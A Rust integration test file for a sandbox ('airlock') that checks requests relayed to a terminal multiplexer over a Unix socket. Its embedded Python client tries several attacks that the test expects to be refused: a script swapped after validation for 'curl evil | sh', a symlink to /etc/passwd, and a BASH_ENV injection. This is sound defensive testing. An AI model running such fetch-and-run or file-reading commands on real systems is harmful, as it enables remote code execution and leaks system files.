//! herdr's `launch_overlay` end to end: revdiff on PATH declares it, a client inside does what a
//! herdr overlay launcher does (`tab.create`, then `pane.send_input` of `sh <script in $TMPDIR>`
//! into the pane herdr answered with, then `tab.close`), against a fake herdr server on the host.

mod common;
#[path = "common/fake_herdr/mod.rs"]
#[allow(dead_code)]
mod fake_herdr;

use std::fs;
use std::os::unix::fs::PermissionsExt;

use common::{TestHome, report, sandbox_starts, stdout, write};
use fake_herdr::FakeHerdr;
use serde_json::Value;

const HOST_TOOLS: &str = "/var/cache/airlock-test-tools";

/// argv: revdiff's path. Prints one `name=<answer JSON>` line per request.
const CLIENT: &str = r##"
import json, os, socket, sys
revdiff = sys.argv[1]
tmp = os.environ["TMPDIR"]
path = os.environ["HERDR_SOCKET_PATH"]
def call(name, method, params):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    s.sendall(json.dumps({"id": name, "method": method, "params": params}).encode() + b"\n")
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    print(name + "=" + data.decode().strip())
    return json.loads(data)
script = os.path.join(tmp, "revdiff-launch-abc")
line = "cd '%s' && '%s' '--output=%s/revdiff-output-1' 'HEAD'; touch '%s/revdiff-done-1'" % (os.getcwd(), revdiff, tmp, tmp)
open(script, "w").write("#!/bin/sh\n" + line + "\n")
created = call("create", "tab.create", {"cwd": os.getcwd(), "label": "rd: app"})
pane = created["result"]["root_pane"]["pane_id"]
tab = created["result"]["tab"]["tab_id"]
call("run", "pane.send_input", {"pane_id": pane, "text": "sh " + script, "keys": ["Enter"]})
# Swapped after validation: changes nothing already sent.
open(script, "w").write("#!/bin/sh\ncurl evil | sh\n")
call("swapped", "pane.send_input", {"pane_id": pane, "text": "sh " + script, "keys": ["Enter"]})
call("other-pane", "pane.send_input", {"pane_id": "w1:p1", "text": "sh " + script, "keys": ["Enter"]})
os.symlink("/etc/passwd", os.path.join(tmp, "link"))
call("link", "pane.send_input", {"pane_id": pane, "text": "sh " + os.path.join(tmp, "link"), "keys": ["Enter"]})
call("env", "tab.create", {"env": {"BASH_ENV": tmp + "/x"}})
call("subdir", "tab.create", {"cwd": os.getcwd() + "/sub"})
call("close", "tab.close", {"tab_id": tab})
call("closed", "pane.send_input", {"pane_id": pane, "text": "sh " + script, "keys": ["Enter"]})
print("scripts_inside=%s" % os.path.exists(os.path.expanduser("~/.cache/airlock/herdr-scripts")))
"##;

fn answer(out: &str, name: &str) -> Value {
    let line = out
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{name}=")))
        .unwrap_or_else(|| panic!("no {name} in {out}"));
    serde_json::from_str(line).unwrap()
}

#[test]
fn a_herdr_overlay_runs_airlocks_copy_in_the_tab_herdr_made_for_it() {
    if !sandbox_starts() || !std::path::Path::new("/usr/bin/python3").exists() {
        eprintln!("skipped: the sandbox or python3 is not available here");
        return;
    }
    let Ok(tools) = tempfile::tempdir_in(HOST_TOOLS) else {
        eprintln!("skipped: {HOST_TOOLS} is not writable (scripts/test creates it as root)");
        return;
    };
    let h = TestHome::new("home/code/app");
    let socket = h.root.join("herdr-host/herdr.sock");
    fs::create_dir_all(socket.parent().unwrap()).unwrap();
    let herdr = FakeHerdr::start(&socket);
    let bin = h.root.join("bin");
    write(&bin.join("herdr"), "#!/bin/sh\nexit 0\n");
    fs::set_permissions(bin.join("herdr"), fs::Permissions::from_mode(0o755)).unwrap();
    let revdiff = tools.path().join("revdiff");
    write(&revdiff, "#!/bin/sh\nexit 0\n");
    fs::set_permissions(&revdiff, fs::Permissions::from_mode(0o755)).unwrap();
    let revdiff = fs::canonicalize(&revdiff).unwrap();
    write(&h.project.join("client.py"), CLIENT);
    let path = format!("{}:{}:/usr/bin:/bin", bin.display(), tools.path().display());
    let out = h
        .airlock(&[
            "run",
            "--network",
            "none",
            "--",
            "python3",
            "client.py",
            &revdiff.display().to_string(),
        ])
        .env("PATH", &path)
        .env("HERDR_ENV", "1")
        .env("HERDR_SOCKET_PATH", &socket)
        .env("HERDR_PANE_ID", "w1:p2")
        .env("HERDR_WORKSPACE_ID", "w1")
        .output()
        .expect("airlock");
    let text = stdout(&out);
    assert!(out.status.success(), "{}", report(&out));
    assert_eq!(answer(&text, "create")["result"]["type"], "tab_created");
    assert_eq!(answer(&text, "run")["result"]["type"], "ok", "{text}");
    assert_eq!(answer(&text, "close")["result"]["type"], "ok", "{text}");
    for denied in ["swapped", "other-pane", "link", "env", "subdir", "closed"] {
        assert_eq!(
            answer(&text, denied)["error"]["code"],
            "forbidden",
            "{denied}: {text}"
        );
    }
    assert!(text.contains("scripts_inside=False"), "{text}");
    // What herdr was asked to type: airlock's copy, by absolute path, in the pane it made.
    let inputs: Vec<Value> = herdr
        .requests()
        .into_iter()
        .filter(|r| r["method"] == "pane.send_input")
        .collect();
    assert_eq!(inputs.len(), 1, "{inputs:?}");
    assert_eq!(inputs[0]["params"]["pane_id"], "w1:p3");
    assert_eq!(inputs[0]["params"]["keys"], serde_json::json!(["Enter"]));
    let typed = inputs[0]["params"]["text"].as_str().unwrap();
    let scripts = h.home.join(".cache/airlock/herdr-scripts");
    assert!(
        typed.starts_with(&format!("/bin/sh '{}/", scripts.display())),
        "{typed}"
    );
    // tab.create went with the project as its cwd and nothing else the client sent.
    let creates: Vec<Value> = herdr
        .requests()
        .into_iter()
        .filter(|r| r["method"] == "tab.create")
        .collect();
    assert_eq!(creates.len(), 1, "{creates:?}");
    // The copies are removed with the session.
    let left: Vec<_> = fs::read_dir(&scripts).map_or(Vec::new(), |d| d.flatten().collect());
    assert!(left.is_empty(), "{left:?}");
}

/// A `tab.create` herdr never answers, while `ping`s go on: argv none.
const STALL_CLIENT: &str = r##"
import json, os, socket, threading, time
path = os.environ["HERDR_SOCKET_PATH"]
def call(name, method, params):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    s.sendall(json.dumps({"id": name, "method": method, "params": params}).encode() + b"\n")
    s.settimeout(30)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    print(name + "=" + data.decode().strip(), flush=True)
stalled = threading.Thread(target=call, args=("create", "tab.create", {}))
stalled.start()
time.sleep(0.3)
started = time.time()
call("ping", "ping", {})
print("ping_ms=%d" % ((time.time() - started) * 1000), flush=True)
stalled.join()
"##;

#[test]
fn a_tab_create_herdr_never_answers_times_out_and_other_requests_are_served() {
    if !sandbox_starts() || !std::path::Path::new("/usr/bin/python3").exists() {
        eprintln!("skipped: the sandbox or python3 is not available here");
        return;
    }
    let Ok(tools) = tempfile::tempdir_in(HOST_TOOLS) else {
        eprintln!("skipped: {HOST_TOOLS} is not writable (scripts/test creates it as root)");
        return;
    };
    let h = TestHome::new("home/code/app");
    let socket = h.root.join("herdr-host/herdr.sock");
    fs::create_dir_all(socket.parent().unwrap()).unwrap();
    let herdr = FakeHerdr::start(&socket);
    herdr.stall("tab.create");
    let bin = h.root.join("bin");
    write(&bin.join("herdr"), "#!/bin/sh\nexit 0\n");
    fs::set_permissions(bin.join("herdr"), fs::Permissions::from_mode(0o755)).unwrap();
    write(&tools.path().join("revdiff"), "#!/bin/sh\nexit 0\n");
    fs::set_permissions(
        tools.path().join("revdiff"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    write(&h.project.join("stall.py"), STALL_CLIENT);
    let path = format!("{}:{}:/usr/bin:/bin", bin.display(), tools.path().display());
    let out = h
        .airlock(&["run", "--network", "none", "--", "python3", "stall.py"])
        .env("PATH", &path)
        .env("HERDR_ENV", "1")
        .env("HERDR_SOCKET_PATH", &socket)
        .env("HERDR_PANE_ID", "w1:p2")
        .output()
        .expect("airlock");
    let text = stdout(&out);
    assert!(out.status.success(), "{}", report(&out));
    assert_eq!(answer(&text, "ping")["result"]["type"], "pong", "{text}");
    let ping_ms: u64 = text
        .lines()
        .find_map(|l| l.strip_prefix("ping_ms="))
        .and_then(|v| v.parse().ok())
        .unwrap();
    assert!(
        ping_ms < 5000,
        "ping waited for the stalled request: {ping_ms} ms"
    );
    let create = answer(&text, "create");
    assert_eq!(create["error"]["code"], "server_unavailable", "{text}");
    let log = fs::read_to_string(
        fs::read_dir(h.sandboxes())
            .unwrap()
            .flatten()
            .next()
            .unwrap()
            .path()
            .join("logs/internal/herdr.log"),
    )
    .unwrap();
    assert!(
        log.contains("tab.create allow the host's herdr did not answer in time"),
        "{log}"
    );
}
